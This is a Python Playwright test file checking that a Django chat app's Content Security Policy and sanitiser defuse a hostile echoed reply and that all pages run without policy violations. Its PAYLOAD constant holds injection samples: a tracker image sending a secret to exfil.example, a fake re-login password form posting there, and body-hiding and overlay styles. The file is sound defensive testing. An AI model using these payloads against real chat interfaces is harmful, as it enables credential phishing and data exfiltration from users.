"""The Content Security Policy and the chat's sanitiser in a real browser (Debian's Chromium).

A hostile reply is the offline model echoing what the user sent: whatever the payload asks for,
nothing is fetched from another host and nothing covers or restyles the app. And every page we
serve works under the policy without one violation.
"""
from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from .conftest import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

IDLE = "body:not(.is-running)"
EXFIL = "http://exfil.example"
DOT = "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="
PAYLOAD = (
    f'<img src="{EXFIL}/pixel.gif?secret=alice" alt="tracker"> '
    f'<img src="/static/chat/favicon.svg" alt="local"> <img src="{DOT}" alt="dot"> '
    f'<form action="{EXFIL}/steal" method="post"><input type="password" name="password" placeholder="Password">'
    '<button>Sign in again</button></form> '
    "<style>body { display: none !important; }</style> "
    '<div style="position: fixed; inset: 0; z-index: 2147483647; background: red" id="overlay">Session expired</div> '
    '<div class="scrim">app class</div>'
)


def watch(page, live_api: str) -> tuple[list[str], list[str]]:
    """Requests that leave for another host (aborted here, never sent), and CSP violations."""
    remote: list[str] = []
    violations: list[str] = []
    own = urlsplit(live_api).netloc

    def route(route):
        remote.append(route.request.url)
        route.abort()

    page.context.route(lambda url: urlsplit(url).netloc not in (own, ""), route)
    page.context.expose_function("__cspViolation", lambda text: violations.append(text))
    page.context.add_init_script("""document.addEventListener("securitypolicyviolation",
        (e) => window.__cspViolation(`${location.pathname}: ${e.effectiveDirective} ${e.blockedURI}`));""")
    return remote, violations


def test_an_echoed_payload_loads_nothing_remote_and_covers_nothing(browsing, make_user, live_api):
    make_user("alice")
    page = browsing.page()
    remote, violations = watch(page, live_api)
    page.goto("/chat/")
    page.fill("#id_username", "alice")
    page.fill("#id_password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_selector("body[data-ready=true]")
    page.fill("#composer-input", PAYLOAD)
    page.press("#composer-input", "Enter")
    page.wait_for_selector(IDLE, state="attached")  # attached: a payload that hid the body must still fail below
    reply = page.locator(".msg-assistant").last.locator(".md")
    expect(reply).to_contain_text("You said:")
    # The remote image is a link the user may click, not a request made for them.
    expect(reply.get_by_role("link", name="Image: tracker")).to_have_attribute("href", f"{EXFIL}/pixel.gif?secret=alice")
    assert remote == []
    # Same-origin and data: images still show.
    expect(reply.locator('img[alt="local"]')).to_have_attribute("src", "/static/chat/favicon.svg")
    expect(reply.locator('img[alt="dot"]')).to_have_attribute("src", DOT)
    # No form to type a password into, no styles, no borrowed classes.
    assert reply.locator("form, input, button:not(.copy-code), textarea, select, style, [style], [class]").count() == 0
    # The app is visible and on top: the composer, not an overlay, is what a click there reaches.
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert page.evaluate("""() => {
        const box = document.getElementById("composer-input").getBoundingClientRect();
        return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)?.id;
    }""") == "composer-input"
    # The sanitiser's inert parse of the payload trips style-src reports (the policy refusing the
    # same <style> and style attributes again); nothing else may be refused.
    assert {violation.split(": ", 1)[1].split()[0] for violation in violations} <= {"style-src-elem", "style-src-attr"}
    assert page.errors == []


def test_every_page_works_under_the_policy_without_a_violation(browsing, make_user, live_api):
    make_user("operator", is_staff=True, is_superuser=True)
    page = browsing.page()
    remote, violations = watch(page, live_api)
    policies: dict[str, str | None] = {}
    page.on("response", lambda response: response.request.resource_type == "document"
            and policies.setdefault(urlsplit(response.url).path, response.headers.get("content-security-policy")))

    page.goto("/chat/")
    page.fill("#id_username", "operator")
    page.fill("#id_password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_selector("body[data-ready=true]")
    page.fill("#composer-input", "Some **bold** text and `code`")
    page.press("#composer-input", "Enter")
    page.wait_for_selector(IDLE)
    expect(page.locator(".msg-assistant .md strong")).to_have_text("bold")
    # connect-src 'self' lets the page open a WebSocket to its own host (CSP 3: 'self' matches ws:).
    assert page.evaluate("""() => new Promise((resolve) => {
        const socket = new WebSocket(location.origin.replace(/^http/, "ws") + "/ws/runs");
        socket.onopen = () => { socket.close(); resolve("open"); };
        socket.onerror = () => resolve("error");
    })""") == "open"

    page.goto("/chat/approvals/")
    page.wait_for_selector("body[data-ready=true]")
    expect(page.locator("#inbox-empty")).to_be_visible()
    page.goto("/chat/documents/")
    page.wait_for_selector("body[data-ready=true]")
    expect(page.locator("#documents-empty")).to_be_visible()
    page.goto("/admin/")
    expect(page.locator("#operator-console")).to_be_visible()
    page.goto("/admin/dashboard/")
    page.wait_for_selector("body[data-charts-ready=true]")
    page.goto("/admin/agno_sessions/run/")
    expect(page.locator("#changelist-filter input[name=user_id]")).to_be_visible()
    page.goto("/docs")
    page.wait_for_selector(".swagger-ui .opblock")
    page.goto("/redoc")
    page.locator("redoc").get_by_text("/health").first.wait_for(state="attached")

    assert sorted(policies) == ["/admin/", "/admin/agno_sessions/run/", "/admin/dashboard/", "/chat/", "/chat/approvals/", "/chat/documents/", "/chat/login/", "/docs", "/redoc"]
    assert all(policy and "script-src 'self'" in policy for policy in policies.values()), policies
    # Redoc's credit shows our copy of its logo, not Redocly's CDN one (core/api/docs.py).
    assert violations == []
    assert remote == []
    assert page.errors == []


def test_the_periodic_task_page_and_the_eval_runs_list_work_under_the_policy(browsing, make_user, live_api) -> None:
    """django-celery-beat's page shipped an inline script and the eval runs list an inline style:
    both refused. The script now comes from our static files; the page is read-only in the
    console (the scheduler writes periodic tasks), and shows the crontab in words."""
    from django_celery_beat.models import CrontabSchedule, PeriodicTask

    from tests.factories import make_eval_run

    make_user("operator", is_staff=True, is_superuser=True)
    nightly = CrontabSchedule.objects.create(minute="0", hour="3")
    task = PeriodicTask.objects.create(name="nightly report", task="scheduler.fire", crontab=nightly)
    make_eval_run("alice", score=0.5)  # a scored eval: the list shows its score trends
    page = browsing.page()
    _, violations = watch(page, live_api)
    page.goto(f"/admin/login/?next=/admin/django_celery_beat/periodictask/{task.pk}/change/")
    page.fill("#id_username", "operator")
    page.fill("#id_password", PASSWORD)
    page.click("input[type=submit]")
    expect(page.locator(".field-crontab")).to_contain_text(str(nightly))
    expect(page.locator("input[name=_save]")).to_have_count(0)

    page.goto("/admin/evals/evalrun/")
    trends = page.locator("table.agno-score-trends")
    expect(trends).to_contain_text("0.5")
    assert trends.evaluate("(table) => getComputedStyle(table).marginBottom") != "0px"  # console.css, not a style attribute

    assert violations == []
    assert page.errors == []
